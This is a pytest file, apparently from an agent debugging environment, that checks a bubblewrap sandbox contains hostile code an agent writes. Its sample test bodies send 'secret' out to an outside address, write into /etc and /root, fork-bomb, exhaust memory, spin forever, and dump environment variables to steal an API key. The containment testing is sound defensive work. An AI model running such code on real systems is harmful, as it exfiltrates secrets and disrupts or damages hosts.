"""Hostile code written by an agent runs only in the bwrap sandbox, and the episode goes on."""

import shutil

import pytest

from fixloop.env.actions import ReadFile, ReplaceLines, RunTests, Submit, WriteFile
from fixloop.env.debug_env import DebugEnv
from fixloop.sandbox.factory import make_sandbox

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="needs bubblewrap (apt-get install bubblewrap)"
)

FIX = ReplaceLines(path="calc.py", start_line=3, end_line=3, new_code="return a + b")

HOSTILE_TESTS = {
    "network": (
        "import socket\n\ndef test_exfiltrate():\n"
        "    socket.create_connection(('1.1.1.1', 80), timeout=1).sendall(b'secret')\n"
    ),
    "write-outside": (
        "import pathlib\n\ndef test_escape():\n"
        "    for target in ('/usr/evil', '/etc/evil', '/root/evil', '/work/evil'):\n"
        "        pathlib.Path(target).write_text('owned')\n"
    ),
    "fork-bomb": "import os\n\ndef test_fork_bomb():\n    while True:\n        os.fork()\n",
    "memory-hog": (
        "def test_hog():\n    blocks = []\n    while True:\n"
        "        blocks.append(bytearray(256 * 1024 * 1024))\n"
    ),
    "infinite-loop": "def test_spin():\n    while True:\n        pass\n",
}


@pytest.fixture(scope="module")
def bwrap():
    box = make_sandbox("bwrap")
    yield box
    box.close()


@pytest.mark.parametrize("kind", list(HOSTILE_TESTS))
def test_hostile_test_code_is_contained_and_the_episode_can_still_be_solved(bwrap, calc_task, kind):
    env = DebugEnv(bwrap)
    env.reset(calc_task.model_copy(update={"timeout_s": 4}))
    env.step(WriteFile(path="tests/test_hostile.py", content=HOSTILE_TESTS[kind]))
    hostile = env.step(RunTests(target="tests/test_hostile.py"))
    assert hostile.observation.last_action_error is None
    assert hostile.observation.pass_summary.passed == 0
    assert not hostile.done
    env.step(FIX)
    assert env.step(RunTests(target="tests/test_calc.py")).observation.pass_summary.failing == []
    assert env.step(Submit()).info["grade"]["outcome"] == "resolved"
    env.close()


def test_an_api_key_in_the_hosts_environment_never_reaches_agent_code(bwrap, calc_task, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-do-not-leak")
    env = DebugEnv(bwrap)
    env.reset(calc_task)
    env.step(
        WriteFile(
            path="tests/test_steal.py",
            content="import os, pathlib\n\ndef test_steal():\n"
            "    pathlib.Path('stolen.txt').write_text(repr(dict(os.environ)))\n",
        )
    )
    env.step(RunTests(target="tests/test_steal.py"))
    stolen = env.step(ReadFile(path="stolen.txt")).observation.code_view
    assert "PATH" in stolen
    assert "sk-live-do-not-leak" not in stolen
    env.close()
